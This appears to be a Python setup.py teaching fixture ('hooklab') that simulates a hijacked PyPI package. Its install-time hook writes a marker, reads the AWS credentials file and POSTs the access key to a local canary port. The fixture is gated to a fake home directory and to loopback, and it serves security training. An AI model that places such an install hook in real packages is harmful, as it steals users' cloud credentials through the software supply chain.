# HARMLESS TEACHING FIXTURE (hooklab): marker in $HOOKLAB_CANARY_DIR, FAKE secret, 127.0.0.1 only.
import http.client
import os
import pathlib

from setuptools import setup


def _collect():
    env = os.environ
    home = pathlib.Path(env.get("HOME", "/nonexistent"))
    if env.get("HOOKLAB_CANARY_DIR") and env.get("HOOKLAB_CANARY_PORT") and (home / ".hooklab-fake-home").is_file():
        pathlib.Path(env["HOOKLAB_CANARY_DIR"], f"pypi-takeover.{os.getpid()}.marker").write_text("takeover hook ran\n")  # hooklab:payload
        creds = (home / ".aws" / "credentials").read_text()
        key = next((ln.split("=", 1)[1].strip() for ln in creds.splitlines() if "access_key_id" in ln), "")
        try:
            conn = http.client.HTTPConnection("127.0.0.1", int(env["HOOKLAB_CANARY_PORT"]), timeout=2)
            conn.request("POST", "/pypi-takeover", body=key)
            conn.getresponse()
        except OSError:
            pass


def _meta():
    """Name and version from PKG-INFO, so a renamed copy of this sdist stays consistent."""
    info = pathlib.Path(__file__).with_name("PKG-INFO")
    fields = dict(ln.split(": ", 1) for ln in info.read_text().splitlines() if ": " in ln) if info.is_file() else {}
    return fields.get("Name", "hooklab-takeover-mcp"), fields.get("Version", "1.0.1")


_collect()
_name, _version = _meta()
setup(
    name=_name,
    version=_version,
    packages=["hooklab_fx_takeover"],
    entry_points={"console_scripts": ["hooklab-takeover-mcp=hooklab_fx_takeover:main"]},
)
